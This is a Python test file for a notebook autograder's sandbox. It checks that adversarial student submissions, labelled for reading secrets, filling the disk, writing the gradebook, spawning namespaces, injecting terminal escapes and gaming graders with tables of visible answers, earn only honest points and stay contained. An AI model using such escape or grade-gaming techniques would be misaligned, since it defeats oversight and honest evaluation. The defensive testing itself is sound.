def _checks(data: dict) -> dict[str, dict]:
    return {check["check_id"].split(".", 1)[1]: check for nb in data["notebooks"] for check in nb["checks"]}


def _notes(data: dict) -> list[str]:
    return list(data.get("notes", [])) + [note for nb in data["notebooks"] for note in nb.get("notes", [])]


def test_the_batch_grades_every_submission(graded):
    assert graded.run.returncode == 0, graded.run.stdout[-3000:] + graded.run.stderr[-3000:]
    assert "Traceback" not in graded.run.stderr, graded.run.stderr[-3000:]
    assert sorted(graded.results) == sorted(attack.student for attack in ATTACKS), graded.run.stdout[-3000:]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.student)
def test_each_submission_earns_only_its_honest_points(graded, attack):
    data = graded.results[attack.student]
    checks = _checks(data)
    summary = {name: (check["score"], check["status"], check["message"][:120]) for name, check in checks.items()}
    assert data["score"] == pytest.approx(attack.score), summary
    assert data["seconds"] < attack.seconds, data["seconds"]
    if attack.status == "graded":
        assert data["status"] == "graded", data["status"]
    else:
        assert data["status"].startswith("failed: ") and attack.status in data["status"], data["status"]
        assert all(check["status"] == "error" and check["score"] == 0 for check in checks.values())
    for check in checks.values():
        assert check["status"] in ("passed", "failed", "error"), check
        assert (check["status"] == "passed") == (check["score"] == check["points"]), check
        assert check["status"] == "passed" or check["message"], check  # a reason for every non-pass
    if attack.target:
        target = checks[attack.target]
        assert target["status"] == attack.verdict, summary
        assert attack.message in target["message"], target["message"]
    notes = " ".join(_notes(data))
    for note in attack.notes:
        assert note in notes, notes


def test_the_grader_says_how_isolated_the_sandbox_is(graded):
    assert f"sandbox mode {graded.isolation.mode}" in graded.run.stderr
    for gap in graded.isolation.gaps:
        assert gap in graded.run.stderr


def test_nothing_the_submissions_started_survives(graded):
    if not (graded.isolation.pid_namespace or graded.isolation.own_uid):
        pytest.skip(f"sandbox mode {graded.isolation.mode} cannot find escaped processes; the grader said so")
    assert graded.leftovers == []


def test_secrets_are_out_of_reach(graded):
    message = _checks(graded.results["reads-secrets"])["conv_output_size"]["message"]
    if not graded.isolation.filesystem:
        assert "no private file system" in graded.run.stderr
        pytest.skip(f"sandbox mode {graded.isolation.mode} has no private file system; the grader said so")
    assert "READ:nothing" in message, message


def test_disk_use_is_bounded(graded):
    message = _checks(graded.results["fills-the-disk"])["conv_output_size"]["message"]
    if graded.isolation.filesystem:  # a private 64 MiB /sandbox: 10 files of 10 MB do not fit
        assert "No space left on device" in message, message


def test_the_cpu_limit_kills_even_without_a_wall_clock_limit():
    with sandbox.Sandbox(sandbox.Limits(cpu_seconds=1)) as box:
        box.run_cells([{"id": "spin", "source": "def spin():\n    while True:\n        pass\n"}], 30)
        with pytest.raises(sandbox.SandboxError) as error:
            box.call("spin", (), {}, 60)
    assert error.value.kind == "crash" and "CPU time" in str(error.value), error.value


def test_submissions_cannot_write_the_course(graded):
    assert graded.hashes_after == graded.hashes_before
    with Gradebook(course_module.db_url_of(graded.course)) as gradebook:
        for student, expected in (("honest-solution", FULL), ("writes-gradebook", FULL - 2 + CEIL.score)):
            notebook = gradebook.find_submission_notebook(STEM, STEM, student)
            assert sum(grade.score for grade in notebook.grades) == pytest.approx(expected)


def test_no_network_from_the_sandbox(graded):
    if not graded.isolation.network:
        assert "no network isolation" in graded.run.stderr or "use the network" in graded.run.stderr
        pytest.skip(f"sandbox mode {graded.isolation.mode} has no network isolation; the grader said so")
    assert graded.received == []


def test_the_environment_gives_nothing_away(graded):
    message = _checks(graded.results["reads-environment"])["conv_output_size"]["message"]
    names = set(re.findall(r"\('([A-Z_]+)', ", message))
    allowed = {"PATH", "HOME", "TMPDIR", "IPYTHONDIR", "MPLCONFIGDIR", "MPLBACKEND", "LANG", "PYTHONHASHSEED",
               "PYTHONDONTWRITEBYTECODE", "OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS",
               "NUMEXPR_NUM_THREADS", "OPENBLAS_CORETYPE", "OPENBLAS_L2_SIZE"}
    assert "PATH" in names and names <= allowed, names
    seed = (graded.course / ".autograder" / "seed").read_text().strip()
    assert str(graded.course) not in message and seed not in message and "reads-environment" not in message


HIDDEN_CODE = ("hidden=True", "BEGIN HIDDEN", "END HIDDEN")
REFERENCE_CODE = ("ref.conv2d", "def _flipped", "torch.nn.functional", "F.conv2d(", "### BEGIN SOLUTION")
EXPECTED_VALUE = re.compile(r"\bexpected -?\d|should be -?\d|was expected|should have shape \(")


def _hidden_group_messages(data: dict) -> list[str]:
    messages = []
    for check in _checks(data).values():
        visible = {group.name for group in check_registry.get(check["check_id"]).groups if group.visible}
        messages += [group["message"] for group in check["groups"] if group["name"] not in visible and group["message"]]
    return messages


@pytest.mark.parametrize("student", ["honest-blank", "honest-wrong-ceil", "honest-wrong-stride", "returns-inf",
                                     "wrong-shape", "edits-tests"])
def test_feedback_never_shows_hidden_tests_or_expected_values(graded, student):
    page = (graded.course / "feedback" / student / f"{STEM}.html").read_text()
    for text in HIDDEN_CODE + REFERENCE_CODE:
        assert text not in page, text
    data = graded.results[student]
    messages = _hidden_group_messages(data)
    for message in messages:
        assert not EXPECTED_VALUE.search(message), message
    if student == "honest-wrong-ceil":  # the hidden cases' true answers are nowhere in the feedback
        assert messages, data
        submitted = nbformat.read(graded.course / "submitted" / student / STEM / f"{STEM}.ipynb", as_version=4)
        seed = submission_seed(int((graded.course / ".autograder" / "seed").read_text()), student, submitted)
        check = check_registry.get(f"{STEM}.conv_output_size")
        hidden = "\n".join(messages)
        for group in (g for g in check.groups if not g.visible):
            for case in check.cases(group, seed):
                assert f"be {check.expected(case)}," not in hidden and f"expected {check.expected(case)}" not in hidden
    autograded = graded.course / "autograded" / student / STEM / f"{STEM}.ipynb"
    if autograded.exists():
        text = autograded.read_text()
        assert not any(marker in text for marker in HIDDEN_CODE)


# ---------------------------------------------------------------------- the student's own check


def _check(tmp_path, notebook_or_bytes, *args):
    path = tmp_path / f"{STEM}.ipynb"
    path.write_bytes(notebook_or_bytes if isinstance(notebook_or_bytes, bytes) else _raw(notebook_or_bytes))
    return cli("check", str(path), *args)


def test_check_gives_the_solution_full_marks_and_shows_no_hidden_test(tmp_path):
    result = _check(tmp_path, filled(), "--seed", "5")
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"score: {FULL:g} / {FULL:g}" in result.stdout
    for text in HIDDEN_CODE + REFERENCE_CODE:
        assert text not in result.stdout


def _failed_hidden_blocks(output: str) -> list[str]:
    """The indented details under each failed hidden group in the check command's output."""
    names = {group.name for test in SPEC.tests for group in check_registry.get(test.check_id).groups
             if not group.visible}
    blocks = []
    for name in names:
        blocks += re.findall(rf"✗ {re.escape(name)} \(\d+ cases?\)\n((?:      [^\n]*\n)+)", output)
    return blocks


def test_check_scores_wrong_and_blank_notebooks_without_showing_expected_values(tmp_path):
    result = _check(tmp_path, filled(conv_output_size=CEIL.source, conv_forward_naive=STRIDE.source), "--seed", "5")
    assert result.returncode == 1 and f"score: {FULL - 2 + CEIL.score - 6 + STRIDE.score:g} / {FULL:g}" in result.stdout
    for text in HIDDEN_CODE + REFERENCE_CODE:
        assert text not in result.stdout
    hidden = _failed_hidden_blocks(result.stdout)
    assert hidden and not any(EXPECTED_VALUE.search(block) for block in hidden), result.stdout
    blank = _check(tmp_path, student_notebook(STEM))
    assert blank.returncode == 1 and f"score: 0 / {FULL:g}" in blank.stdout and "not implemented" in blank.stdout


def test_check_runs_preflight(tmp_path):
    edited = _check(tmp_path, _edits_tests(None), "--seed", "1")
    assert edited.returncode == 0 and "note: The test cell test_zero_pad was deleted" in edited.stdout, edited.stdout
    broken = _check(tmp_path, _raw(filled())[:3000])
    assert broken.returncode == 2 and "not valid JSON" in broken.stderr
    assert "Traceback" not in broken.stderr and len(broken.stderr.strip().splitlines()) == 1
    other = _check(tmp_path, _other_assignment(None), "--assignment", STEM)
    assert other.returncode == 1 and "another assignment" in other.stdout, other.stdout


# ---------------------------------------------------------------------- weaker machines


@pytest.mark.parametrize("mode", ["userns", "uid", "plain"])
def test_weaker_sandbox_modes_grade_honestly_and_say_what_they_miss(mode, monkeypatch, capsys):
    """Forced modes (``AUTOGRADER_SANDBOX``): same scores, and the grader states what is not enforced."""
    from autograder.grader.notebook import grade_notebook

    monkeypatch.setenv("AUTOGRADER_SANDBOX", mode)
    monkeypatch.setenv("AUTOGRADER_CALL_TIMEOUT", "3")
    monkeypatch.delenv("AUTOGRADER_SANDBOX_ANNOUNCED", raising=False)
    try:
        found = sandbox.announce()
    except ValueError as error:  # this machine cannot run that mode at all: it must say why
        assert mode in str(error) and "cannot start" in str(error)
        pytest.skip(str(error))
    said = capsys.readouterr().err
    assert f"sandbox mode {mode}" in said and all(gap in said for gap in found.gaps)
    if mode == "plain":
        assert "no isolation beyond resource limits" in said
    assert grade_notebook(SPEC, filled(), 3).score == FULL
    assert grade_notebook(SPEC, student_notebook(STEM), 3).score == 0
    ceil = grade_notebook(SPEC, filled(conv_output_size=CEIL.source, conv_forward_im2col=(
        "import torch.nn.functional as F\n" + SOLUTIONS["conv_forward_im2col"])), 3)
    assert ceil.sandbox == mode
    assert ceil.score == pytest.approx(FULL - 2 + CEIL.score - POINTS["conv_forward_im2col"])
    assert "torch" in next(c for c in ceil.checks if c.check_id.endswith("conv_forward_im2col")).message


# ---------------------------------------------------------------------- round two (issue 14)


def test_a_hidden_exception_shows_its_class_and_no_values(graded):
    data = graded.results["hidden-exception-leak"]
    messages = _hidden_group_messages(data)
    assert messages, data
    for message in messages:
        assert "raised ValueError" in message and len(message) < 600, message
        assert not re.search(r"LEAK \d", message), message
    # the visible group's message shows its case in full: the case drawn again for this submission
    submitted = nbformat.read(graded.course / "submitted" / "hidden-exception-leak" / STEM / f"{STEM}.ipynb",
                              as_version=4)
    seed = submission_seed(int((graded.course / ".autograder" / "seed").read_text()), "hidden-exception-leak", submitted)
    check = check_registry.get(f"{STEM}.conv_output_size")
    size, kernel = check.cases(check.groups[0], seed)[0].args
    assert f"LEAK {size} {kernel} 1 0" in _checks(data)["conv_output_size"]["message"]


def test_every_notebook_has_one_time_budget(graded):
    """Cells, restarts, checks and regrades share one budget, recorded with the result."""
    for data in graded.results.values():
        for notebook in data["notebooks"]:
            assert notebook["budget"] == (BUDGET if not notebook["failure"] else 0), notebook["name"]
    slow = graded.results["slow-cells-crashing-calls"]
    assert slow["notebooks"][0]["seconds"] < BUDGET + 30, slow["notebooks"][0]["seconds"]


def test_the_sandbox_exposes_one_python_environment(graded):
    message = _checks(graded.results["lists-other-environments"])["conv_output_size"]["message"]
    if not graded.isolation.filesystem:
        pytest.skip(f"sandbox mode {graded.isolation.mode} has no private file system; the grader said so")
    assert "SITE:none" in message, message


def test_the_sandbox_refuses_nested_user_namespaces(graded):
    message = _checks(graded.results["nested-user-namespace"])["conv_output_size"]["message"]
    if graded.isolation.mode not in ("namespaces", "userns"):
        pytest.skip(f"sandbox mode {graded.isolation.mode} makes no namespaces")
    assert "USERNS:-1" in message, message


def test_the_autograded_copy_holds_only_the_graders_outputs(graded):
    text = (graded.course / "autograded" / "prefilled-outputs" / STEM / f"{STEM}.ipynb").read_text()
    assert "FORGED" not in text and "<script>" not in text
    assert "points (passed)" in text  # the grader's own verdicts are there


def test_the_terminal_never_receives_a_students_control_characters(graded):
    printed = graded.run.stdout + graded.run.stderr
    assert "\x1b" not in printed and "\\x1b[2Jescapes" in printed


def _every_check():
    from conftest import ASSIGNMENTS

    return [check for stem in ASSIGNMENTS for check in check_registry.for_chapter(stem).values()]


def _leaves(value):
    """Every array, number, string and key inside an input, walking tuples, lists and dicts."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from _leaves(item)
    elif isinstance(value, (tuple, list)):
        yield type(value)
        for item in value:
            yield from _leaves(item)
    else:
        yield value


def _same_leaf(old, new) -> bool:
    import numpy as np

    if isinstance(old, np.ndarray) or isinstance(new, np.ndarray):
        return (isinstance(old, np.ndarray) and isinstance(new, np.ndarray) and old.shape == new.shape
                and old.dtype == new.dtype and np.array_equal(old, new, equal_nan=old.dtype.kind in "fc"))
    return type(old) is type(new) and old == new


def _same_inputs(before, after) -> bool:
    old, new = list(_leaves((before.args, before.kwargs))), list(_leaves((after.args, after.kwargs)))
    return len(old) == len(new) and all(_same_leaf(a, b) for a, b in zip(old, new))


def _kind(value):
    """What a re-draw must keep of a top-level input: its type, and an array's dtype and number of axes."""
    import numpy as np

    return (np.ndarray, value.dtype, value.ndim) if isinstance(value, np.ndarray) else type(value)


def test_visible_groups_are_drawn_again_at_grading():
    """In Jupyter (no seed) a visible group's cases are the notebook's; at grading (a seed) every visible
    group's inputs change with the seed, reproducibly, into cases of the same kinds (the same number of
    cases, arguments and keywords, types, dtypes and numbers of axes, a note wherever the notebook has
    one). Groups left to the default re-draw (new numbers in float and pixel arrays) also keep their shapes,
    their notes, which values are finite and the signs. Walks arrays inside tuples, lists and dicts.

    The one kind of group exempt: a function that takes no input (a designed filter), whose cases hold
    nothing a table could be keyed by."""
    import numpy as np

    unchanged = []
    for check in _every_check():
        for group in (g for g in check.groups if g.visible):
            shown = check.cases(group, None)
            if not any(case.args or case.kwargs for case in shown):
                assert check.params == (), f"{check.id}: {group.name} has no inputs, but the function takes some"
                continue
            graded_ = {seed: check.cases(group, seed) for seed in (7, 8, 9)}
            assert all(_same_inputs(a, b) for a, b in zip(graded_[7], check.cases(group, 7))), check.id
            for seed, cases in graded_.items():
                assert len(cases) == len(shown), f"{check.id}: {group.name}"
                for before, after in zip(shown, cases):
                    assert [_kind(v) for v in before.args] == [_kind(v) for v in after.args], (check.id, after)
                    assert {k: _kind(v) for k, v in before.kwargs.items()} == \
                        {k: _kind(v) for k, v in after.kwargs.items()}, (check.id, after)
                    assert bool(before.note) == bool(after.note), (check.id, after.note)
                    if group.redraw is None:  # the note kept, saying when its numbers are the notebook's
                        renumbered = f"{before.note} (the notebook's case; graded on new numbers of the same kind)"
                        assert after.note in (before.note, renumbered), (check.id, after.note)
                        assert (after.note == before.note) == _same_inputs(before, after), (check.id, after.note)
                        for old, new in zip(_leaves((before.args, before.kwargs)), _leaves((after.args, after.kwargs))):
                            if isinstance(old, np.ndarray) and old.dtype.kind == "f":
                                assert new.shape == old.shape and np.array_equal(np.isfinite(old), np.isfinite(new))
                                assert np.array_equal(np.sign(old), np.sign(new))
                if all(_same_inputs(a, b) for a, b in zip(shown, cases)):
                    unchanged.append(f"{check.id}: {group.name} (seed {seed})")
            assert not all(_same_inputs(a, b) for a, b in zip(graded_[7], graded_[8])), f"{check.id}: {group.name}"
    assert unchanged == [], "visible groups whose inputs do not change with the seed:\n  " + "\n  ".join(unchanged)


def test_a_table_of_the_visible_answers_passes_in_jupyter_and_earns_nothing_at_grading(graded):
    """The table of visible answers (visible-size-table) passes every visible group of check() in Jupyter
    (no seed), and fails every visible group of the real grading, which draws them again."""
    from autograder.core.checks.base import Returned
    from autograder.core.checks.run import run_check

    check = check_registry.get(f"{STEM}.conv_output_size")
    namespace = {}
    exec(_size_table_source(), namespace)  # noqa: S102 - the attack's own cell, written above
    function = namespace["conv_output_size"]
    jupyter, _ = run_check(check, lambda case: Returned(function(*case.args, **case.kwargs), case.args, case.kwargs),
                           None, include_hidden=False)
    assert jupyter and all(group.passed for group in jupyter), jupyter
    groups = {group["name"]: group for group in _checks(graded.results["visible-size-table"])["conv_output_size"]["groups"]}
    visible = [group.name for group in check.groups if group.visible]
    assert len(visible) == 2 and all(not groups[name]["passed"] for name in visible), groups
    assert all(groups[name]["exception"] == "KeyError" for name in visible), groups


# ---------------------------------------------------------------------- a PyTorch exercise beside NumPy ones

TORCH_SGD = ("import torch\n\n\ndef sgd_step(params, grads, lr):\n"
             "    tensors = {k: torch.tensor(v, requires_grad=True) for k, v in params.items()}\n"
             "    for k, t in tensors.items():\n        t.grad = torch.tensor(grads[k])\n"
             "    torch.optim.SGD(list(tensors.values()), lr=lr).step()\n"
             "    return {k: t.detach().numpy() for k, t in tensors.items()}\n")


def test_a_torch_exercise_imports_torch_while_the_numpy_exercises_of_its_notebook_stay_forbidden():
    """Chapter 9 grades its PyTorch exercises in a sandbox of their own, which allows torch; its NumPy
    exercises keep theirs, which refuses torch (and hides it): an sgd_step written with torch.optim scores
    nothing, with the forbidden verdict, while DigitsCNN and train_cnn, which must import torch, pass. The
    torch cells' refusal in the NumPy sandbox is not reported as their error."""
    from autograder.grader.notebook import grade_notebook
    from autograder.grader.run import sandboxes

    stem = "09-training"
    spec = read_spec(solution_notebook(stem), stem)
    wanted = [f"{stem}.{name}" for name in ("sgd_step", "DigitsCNN", "train_cnn", "adam_step")]
    only = dataclasses.replace(spec, tests=[test for test in spec.tests if test.check_id in wanted])
    checks = [check_registry.get(test.check_id) for test in only.tests]
    names = [[checks[index].function for index in indices] for indices in sandboxes(checks)]
    assert names == [["sgd_step", "adam_step"], ["DigitsCNN", "train_cnn"]]  # NumPy ones together, PyTorch ones too
    assert all("torch" in check.forbidden for check in checks[:2]) and not any("torch" in c.forbidden for c in checks[2:])
    result = grade_notebook(only, with_cell(solution_notebook(stem), "sgd_step", TORCH_SGD), 3)
    verdicts = {check.check_id.split(".")[1]: check for check in result.checks}
    assert verdicts["sgd_step"].score == 0 and verdicts["sgd_step"].status == "error"
    assert verdicts["sgd_step"].error == "forbidden" and "torch" in verdicts["sgd_step"].message
    for name in ("DigitsCNN", "train_cnn", "adam_step"):
        assert verdicts[name].status == "passed", (name, verdicts[name].message)
    assert "DigitsCNN" not in result.cell_errors and "train_cnn" not in result.cell_errors, result.cell_errors
    assert "torch" in result.cell_errors["sgd_step"]
    chapter_2 = [check_registry.get(test.check_id) for test in SPEC.tests]
    assert sandboxes(chapter_2) == [list(range(len(chapter_2)))]  # one sandbox, as before
